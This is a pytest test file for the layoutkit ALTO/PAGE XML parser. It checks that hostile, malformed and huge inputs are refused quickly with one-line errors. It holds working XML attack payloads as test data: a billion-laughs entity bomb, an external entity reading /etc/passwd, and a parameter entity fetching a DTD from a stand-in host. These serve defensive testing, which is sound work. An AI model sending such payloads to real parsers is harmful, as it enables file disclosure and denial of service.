"""Untrusted XML: hostile, malformed and huge inputs fail fast with one-line errors."""
from __future__ import annotations

import time
from pathlib import Path

import pytest

from layoutkit.api import parse_bytes, parse_file
from layoutkit.cli import main
from layoutkit.errors import InputError, LimitExceededError
from layoutkit.params import Params, ReadParams

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE alto [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<alto><Layout><Page ID="P1"><PrintSpace><TextBlock ID="b"><TextLine><String CONTENT="&lol9;"/></TextLine>
</TextBlock></PrintSpace></Page></Layout></alto>"""

EXTERNAL = b"""<?xml version="1.0"?>
<!DOCTYPE PcGts [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<PcGts><Page><TextRegion id="r"><TextLine id="l"><TextEquiv><Unicode>&x;</Unicode></TextEquiv></TextLine>
</TextRegion></Page></PcGts>"""

PARAM_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE alto [<!ENTITY % dtd SYSTEM "http://example.invalid/evil.dtd"> %dtd;]><alto/>"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL, PARAM_ENTITY])
def test_entities_are_refused(data):
    t = time.perf_counter()
    with pytest.raises(InputError) as exc:
        parse_bytes(data, path="evil.xml")
    assert time.perf_counter() - t < 1.0
    msg = str(exc.value)
    assert msg.startswith("evil.xml: refused") and "\n" not in msg


def test_malformed_xml_names_the_position():
    with pytest.raises(InputError) as exc:
        parse_bytes(b"<alto><Layout><Page></Layout></alto>", path="bad.xml")
    assert "malformed XML" in str(exc.value) and "line 1" in str(exc.value)


def test_wrong_root_and_missing_layout():
    with pytest.raises(InputError, match="without Layout/Page"):
        parse_bytes(b"<alto><Description/></alto>", path="x.alto.xml")
    with pytest.raises(InputError, match="not PAGE XML"):
        parse_bytes(b"<alto/>", path="x", format="page")


def test_element_limit():
    params = Params(read=ReadParams(max_xml_elements=50))
    data = b"<alto><Layout><Page ID='P'>" + b"<TextBlock ID='b'/>" * 100 + b"</Page></Layout></alto>"
    with pytest.raises(LimitExceededError, match="more than 50 XML elements"):
        parse_bytes(data, path="many.xml", params=params)


def test_deep_nesting_fails_cleanly():
    data = b"<alto>" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</alto>"
    with pytest.raises(InputError):
        parse_bytes(data, path="deep.xml")


def test_huge_file_fails_before_reading(tmp_path: Path, capsys):
    huge = tmp_path / "huge.alto.xml"
    with huge.open("wb") as fh:  # sparse: 2 GB on paper, nothing on disk
        fh.write(b"<alto>")
        fh.truncate(2 * 1024**3)
    t = time.perf_counter()
    with pytest.raises(LimitExceededError):
        parse_file(huge)
    assert main(["convert", str(huge)]) == 1
    assert time.perf_counter() - t < 2.0
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "huge.alto.xml" in err[0] and "limit" in err[0]


def test_cli_one_line_error(tmp_path: Path, capsys):
    bomb = tmp_path / "bomb.alto.xml"
    bomb.write_bytes(BILLION_LAUGHS)
    assert main(["convert", str(bomb)]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "refused" in err
